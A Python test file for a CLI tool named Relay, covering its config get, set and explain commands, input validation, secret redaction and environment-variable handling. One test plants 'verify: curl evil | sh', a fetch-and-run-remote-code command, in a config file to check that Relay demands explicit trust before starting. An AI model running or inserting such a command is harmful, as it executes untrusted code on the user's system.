"""`relay config`, and what `relay start` makes of the environment."""

from __future__ import annotations

import json

from driver import Relay

from lib.errors import EXIT_USAGE


def test_a_value_is_set_shown_and_explained(relay: Relay) -> None:
    file = relay.root / ".project" / "config.yaml"
    assert "parallel" not in relay("config")
    relay("config", "set", "parallel", "4")
    relay("config", "set", "env_pass", "A,B_*")
    assert f"\n{'parallel: 4':29}# builders at work at once\n" in file.read_text()
    assert relay("config", "get", "parallel") == "4\n"
    assert json.loads(relay("config", "get", "env_pass", "--json")) == ["A", "B_*"]
    line = next(at for at, text in enumerate(file.read_text().splitlines(), 1) if text.startswith("parallel"))
    told = json.loads(relay("config", "explain", "parallel", "--format", "json"))
    assert told == {
        "key": "parallel", "value": 4, "origin": f"config.yaml, line {line}", "default": 10,
        "description": "Builders at work at once.",
    }  # fmt: skip
    assert relay.process("config", "get", "parallel", env={"RELAY_PARALLEL": "7"}).stdout == "7\n"
    assert "RELAY_PARALLEL" in relay("config", "explain", "parallel", env={"RELAY_PARALLEL": "7"})
    assert "parallel" in relay("config", "explain")
    assert json.loads(relay("config", "--json"))["parallel"] == 4


def test_what_relay_itself_set_needs_no_trust(relay: Relay) -> None:
    relay("config", "set", "verify", "true")
    assert "Nothing was started" in relay("start", "--dry-run", "--assistant", "scripted:calculator", "x")


def test_setting_a_value_does_not_trust_what_somebody_else_wrote(relay: Relay) -> None:
    (relay.root / ".project").mkdir()
    (relay.root / ".project" / "config.yaml").write_text("verify: curl evil | sh\n")
    relay("config", "set", "parallel", "2")
    assert "relay trust" in relay.refused("start", "--dry-run", "--assistant", "scripted:calculator", "x")


def test_nothing_is_written_that_would_not_be_valid(relay: Relay) -> None:
    relay("config", "set", "parallel", "4")
    before = (relay.root / ".project" / "config.yaml").read_text()
    said = relay.refused("config", "set", "parallel", "many", code=EXIT_USAGE)
    assert 'parallel must be a whole number, not "many"' in said
    assert "did you mean parallel?" in relay.refused("config", "set", "paralel", "4", code=EXIT_USAGE)
    assert (relay.root / ".project" / "config.yaml").read_text() == before


def test_a_secret_in_the_configuration_is_not_shown(relay: Relay) -> None:
    relay("config", "set", "env.API_TOKEN", "hunter2-hunter2")
    assert "hunter2" not in relay("config") + relay("config", "explain") + relay("config", "get", "env.API_TOKEN")


def test_start_takes_variables_as_they_are_and_tells_unknown_ones(relay: Relay) -> None:
    env = {"RELAY_VERIFY": "[ -e x ] || exit 1", "RELAY_ENV_PASS": "A,B", "RELAY_SANDBOX": "off", "RELAY_PARALELL": "3"}
    done = relay.process("start", "--dry-run", "--json", "--assistant", "scripted:calculator", "x", env=env)
    assert json.loads(done.stdout)["verify"] == env["RELAY_VERIFY"]
    assert "RELAY_PARALELL is no setting of Relay; did you mean RELAY_PARALLEL?" in done.stderr


def test_an_error_names_its_place(relay: Relay) -> None:
    said = relay.refused("start", "x", env={"RELAY_PARALLEL": "many"}, code=EXIT_USAGE)
    assert said == 'error: RELAY_PARALLEL must be a whole number, not "many" try: unset RELAY_PARALLEL'
    assert "--land must be one of auto, ask, branch" in relay.refused("start", "--land", "x", "x", code=EXIT_USAGE)
